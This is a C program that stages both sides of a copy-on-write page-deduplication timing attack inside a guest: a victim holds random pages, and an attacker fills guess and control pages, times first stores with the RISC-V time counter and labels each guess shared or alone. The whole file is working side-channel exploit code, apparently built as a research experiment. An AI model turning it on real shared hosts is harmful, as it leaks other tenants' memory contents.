/*
 * Both sides of an attack by copy-on-write timing, as ordinary programs of a guest.
 *
 *   guess hold PAGES
 *       The victim: holds the pages of half of all PAGES guesses, which half is
 *       drawn from the kernel's entropy. Prints "held INDEX" for each (that goes to
 *       the experiment, not to the attacker) and stays in memory.
 *   guess fill PAGES CONTROLS
 *       The attacker: fills a page with each guess, and two kinds of pages whose
 *       fate it knows: CONTROLS twins, a content of which it holds two pages, and
 *       CONTROLS that nobody else can hold. Returns when that is done; a process
 *       stays behind with the pages.
 *   guess time
 *       That process times its first store to each page, in random order, learns
 *       from the controls what a copy costs, and decides of every guess whether its
 *       page was shared. Prints, times in ns,
 *           note threshold_ns T
 *           time guess INDEX NS shared|alone
 *           time twin|own INDEX NS
 *
 * A page is read before its store is timed, so that translation costs the same for
 * all. The clock is the time CSR, 10 MHz.
 */
#include <fcntl.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/random.h>
#include <sys/stat.h>
#include <unistd.h>

#define PAGE       4096ul
#define TICK_NS    100ul
#define MOST_PAGES 65536ul
#define FILLED     "/tmp/guess.filled"
#define GO         "/tmp/guess.go"
#define TIMES      "/tmp/guess.times"
#define POLL_US    20000

enum kind { GUESS, TWIN, OWN };

struct probe {
    enum kind kind;
    unsigned long index;
    volatile uint64_t *page;
    uint64_t ticks;
};

static void fail(const char *what)
{
    perror(what);
    exit(1);
}

static uint64_t random_number(void)
{
    uint64_t number;
    if (getrandom(&number, sizeof number, 0) != sizeof number)
        fail("getrandom");
    return number;
}

/* Every number its own page; none is a page of zeroes. */
static void fill(volatile uint64_t *page, uint64_t number)
{
    for (unsigned long i = 0; i < PAGE / sizeof *page; i++)
        page[i] = (number + 1) * 0x9e3779b97f4a7c15ul + i;
}

static void *pages_of(unsigned long count)
{
    void *pages =
        mmap(NULL, count * PAGE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    if (pages == MAP_FAILED)
        fail("mmap");
    /* Or the kernel moves them together into a large page, and the copies it leaves are pages that
     * we hold twice. */
    if (madvise(pages, count * PAGE, MADV_NOHUGEPAGE) < 0)
        fail("madvise");
    return pages;
}

static uint64_t *page_at(void *pages, unsigned long index)
{
    return (uint64_t *)((char *)pages + index * PAGE);
}

/* The order of 0 .. count-1 by chance. */
static void shuffle(unsigned long *order, unsigned long count)
{
    for (unsigned long i = 0; i < count; i++) {
        unsigned long j = random_number() % (i + 1);
        order[i] = order[j];
        order[j] = i;
    }
}

/* The rest of the program runs in a process of its own that outlives this one. */
static void stay_behind(void)
{
    pid_t child = fork();
    if (child < 0)
        fail("fork");
    if (child > 0)
        _exit(0);
    setsid();
}

static void await_file(const char *path)
{
    while (access(path, F_OK) < 0)
        usleep(POLL_US);
}

static void make_file(const char *path)
{
    int fd = open(path, O_WRONLY | O_CREAT | O_CLOEXEC, 0600);
    if (fd < 0)
        fail(path);
    close(fd);
}

static void hold(unsigned long count)
{
    unsigned long *order = calloc(count, sizeof *order);
    void *pages = pages_of(count);
    if (!order)
        fail("calloc");
    shuffle(order, count);
    for (unsigned long i = 0; i < count / 2; i++) {
        fill(page_at(pages, order[i]), order[i]);
        printf("held %lu\n", order[i]);
    }
    fflush(stdout);
    stay_behind();
    for (;;)
        pause();
}

static uint64_t ticks(void)
{
    uint64_t now;
    __asm__ volatile("fence\n\trdtime %0" : "=r"(now) : : "memory");
    return now;
}

static void time_stores(struct probe *probes, unsigned long count)
{
    unsigned long *order = calloc(count, sizeof *order);
    if (!order)
        fail("calloc");
    shuffle(order, count);
    for (unsigned long i = 0; i < count; i++) {
        struct probe *probe = &probes[order[i]];
        uint64_t first = probe->page[0];
        uint64_t begin = ticks();
        probe->page[0] = first + 1;
        probe->ticks = ticks() - begin;
    }
    free(order);
}

/* The number of ticks that separates the controls with the fewest mistakes. */
static uint64_t learn(const struct probe *probes, unsigned long count)
{
    uint64_t best = 0;
    unsigned long fewest = ~0ul;
    for (unsigned long i = 0; i < count; i++) {
        unsigned long mistakes = 0;
        if (probes[i].kind != OWN)
            continue;
        for (unsigned long j = 0; j < count; j++)
            mistakes += (probes[j].kind == TWIN && probes[j].ticks <= probes[i].ticks) ||
                        (probes[j].kind == OWN && probes[j].ticks > probes[i].ticks);
        if (mistakes < fewest) {
            fewest = mistakes;
            best = probes[i].ticks;
        }
    }
    return best;
}

static void tell(const struct probe *probes, unsigned long count)
{
    static const char *const names[] = {[GUESS] = "guess", [TWIN] = "twin", [OWN] = "own"};
    uint64_t threshold = learn(probes, count);
    FILE *out = fopen(TIMES ".partial", "w");
    if (!out)
        fail(TIMES);
    fprintf(out, "note threshold_ns %lu\n", threshold * TICK_NS);
    for (unsigned long i = 0; i < count; i++)
        fprintf(out, "time %s %lu %lu%s\n", names[probes[i].kind], probes[i].index,
                probes[i].ticks * TICK_NS,
                probes[i].kind != GUESS       ? ""
                : probes[i].ticks > threshold ? " shared"
                                              : " alone");
    if (fclose(out) != 0 || rename(TIMES ".partial", TIMES) < 0)
        fail(TIMES);
}

static void attack(unsigned long count, unsigned long controls)
{
    unsigned long total = count + 2 * controls;
    struct probe *probes = calloc(total, sizeof *probes);
    void *pages = pages_of(total), *twins = pages_of(controls);
    uint64_t private_numbers = random_number() | 1ul << 63;
    if (!probes)
        fail("calloc");
    unlink(FILLED);
    unlink(GO);
    unlink(TIMES);
    for (unsigned long i = 0; i < total; i++) {
        struct probe *probe = &probes[i];
        probe->kind = i < count ? GUESS : i < count + controls ? TWIN : OWN;
        probe->index = probe->kind == GUESS ? i : (i - count) % controls;
        probe->page = page_at(pages, i);
    }
    pid_t child = fork();
    if (child < 0)
        fail("fork");
    if (child > 0) {
        await_file(FILLED);
        return;
    }
    setsid();
    for (unsigned long i = 0; i < total; i++)
        fill(probes[i].page, i < count ? i : private_numbers + i);
    for (unsigned long i = 0; i < controls; i++)
        fill(page_at(twins, i), private_numbers + count + i);
    make_file(FILLED);
    await_file(GO);
    time_stores(probes, total);
    tell(probes, total);
    _exit(0);
}

static void print_times(void)
{
    char text[4096];
    size_t length;
    make_file(GO);
    await_file(TIMES);
    FILE *in = fopen(TIMES, "r");
    if (!in)
        fail(TIMES);
    while ((length = fread(text, 1, sizeof text, in)) > 0)
        fwrite(text, 1, length, stdout);
    fclose(in);
}

static unsigned long number(const char *text)
{
    char *end;
    unsigned long found = strtoul(text, &end, 10);
    if (*end || found < 2 || found > MOST_PAGES) {
        fprintf(stderr, "guess: '%s' is no number from 2 to %lu\n", text, MOST_PAGES);
        exit(2);
    }
    return found;
}

int main(int argc, char **argv)
{
    if (argc == 3 && !strcmp(argv[1], "hold"))
        hold(number(argv[2]));
    else if (argc == 4 && !strcmp(argv[1], "fill"))
        attack(number(argv[2]), number(argv[3]));
    else if (argc == 2 && !strcmp(argv[1], "time"))
        print_times();
    else {
        fprintf(stderr, "usage: guess hold PAGES | fill PAGES CONTROLS | time\n");
        return 2;
    }
    return 0;
}
